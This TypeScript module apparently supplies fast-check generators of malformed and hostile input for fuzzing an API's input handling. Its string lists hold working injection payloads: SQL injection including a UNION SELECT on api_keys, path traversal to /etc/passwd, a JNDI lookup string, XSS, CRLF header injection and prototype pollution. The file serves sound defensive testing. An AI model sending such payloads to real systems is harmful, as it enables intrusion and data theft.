import fc from 'fast-check';

/**
 * Generators of the values a careless or hostile client sends, for the property-based tests of
 * bad input: wrong types, huge and odd numbers, unicode, control characters, SQL and
 * path-traversal strings. Strings are well-formed UTF-16 (URLs cannot carry lone surrogates;
 * RAW_URL_FRAGMENTS sends broken UTF-8 instead).
 */

/** Strings that have broken services before. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\t',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '0',
  '-1',
  '1e309',
  'NaN',
  '9'.repeat(400),
  "' OR '1'='1",
  "'; DROP TABLE companies; --",
  '" OR ""="',
  '1 UNION SELECT key_hash FROM api_keys',
  '%',
  '_',
  '%_%',
  '\\',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '....//....//',
  '%00',
  '\u0000',
  'a\u0000b',
  '\u0001\u001f\u007f',
  '\r\n',
  'Ölwerk',
  '日本語',
  '🙂',
  'e\u0301',
  '\u202eevil',
  '\ufeffbom',
  '\u200b',
  '${jndi:ldap://example.com/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'acme.io\u0000.evil',
];

/** Already percent-encoded pieces of a URL: malformed escapes, NUL, broken and overlong UTF-8. */
export const RAW_URL_FRAGMENTS = [
  '%00',
  '%',
  '%zz',
  '%2',
  '%E0%A4%A',
  '%ED%A0%80',
  '%C0%AE%C0%AE',
  '%FF%FE',
  '..%2f..%2fetc%2fpasswd',
  '..%5c..%5cwindows',
  '%2e%2e%2fadmin',
  '%252e%252e',
  'a;b=c',
  'a%0d%0aSet-Cookie:%20x=y',
];

/** Any string: curated, random unicode, control characters, or very long. */
export function hostileString(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(...HOSTILE_STRINGS),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)) }),
    fc
      .tuple(
        fc.constantFrom('a', 'Z', '9', 'é', '🙂', "'", '/'),
        fc.integer({ min: 300, max: 3000 }),
      )
      .map(([unit, bytes]) => unit.repeat(Math.ceil(bytes / Buffer.byteLength(unit)))),
  );
}

/** Numbers as text: negative, zero, huge, floats, exponents, not numbers at all. */
export function oddNumberText(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.integer({ min: -1000, max: 1000 }).map(String),
    fc.double().map(String),
    fc.constantFrom(
      '-0',
      '1.5',
      '1e3',
      '0x10',
      ' 1',
      '1 ',
      '+1',
      'Infinity',
      '9007199254740993',
      '9'.repeat(30),
      '1'.padEnd(400, '0'),
    ),
  );
}

/** A header value fetch can send (latin-1, no control character but tab) that nobody expects. */
export function hostileHeaderValue(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(
      '',
      '*',
      'null',
      '"',
      'W/"',
      '",,,"',
      "' OR 1=1 --",
      '../../etc/passwd',
      'Ölwerk',
      '\u00ff\u00fe',
      'a\tb',
    ),
    fc.string({ unit: 'binary-ascii', maxLength: 60 }).filter(isHeaderSafe),
    fc.integer({ min: 1000, max: 4000 }).map((count) => 'x'.repeat(count)),
  );
}

/** fetch refuses control characters but tab in a header value (so would Node's parser). */
function isHeaderSafe(value: string): boolean {
  return !/\p{Cc}/u.test(value.replaceAll('\t', ''));
}

/** Any JSON value, with hostile strings and extreme numbers among the leaves. */
export function hostileJson(): fc.Arbitrary<fc.JsonValue> {
  return fc.oneof(
    fc.jsonValue({ maxDepth: 3 }),
    hostileString(),
    fc.constantFrom(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      Number.MAX_VALUE,
      -Number.MAX_VALUE,
      Number.MAX_SAFE_INTEGER + 2,
      [],
      {},
      [null],
    ),
    fc.dictionary(hostileString(), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  );
}

/** JSON text a parser must refuse, or that parses to something odd (deep, huge numbers). */
export function oddJsonText(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(
      '',
      ' ',
      '{',
      '[1,]',
      "{'a':1}",
      '{"a":1}{"b":2}',
      'NaN',
      '1e999',
      '-1e999',
      '123456789012345678901234567890',
      '"\\ud800"',
      '\ufeff[]',
      '\u0000',
      '[{"__proto__":{"polluted":true}}]',
      '{"constructor":{"prototype":{"polluted":true}}}',
    ),
    // Nested far deeper than any body: arrays, objects, objects in an array.
    fc
      .tuple(fc.integer({ min: 100, max: 20_000 }), fc.constantFrom('[]', '{}', '[{}]'))
      .map(([depth, shape]) => {
        const objects = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
        if (shape === '[]') return `${'['.repeat(depth)}${']'.repeat(depth)}`;
        return shape === '{}' ? objects : `[${objects}]`;
      }),
    hostileJson().map((value) => JSON.stringify(value)),
    fc.string({ unit: 'binary', maxLength: 80 }),
  );
}
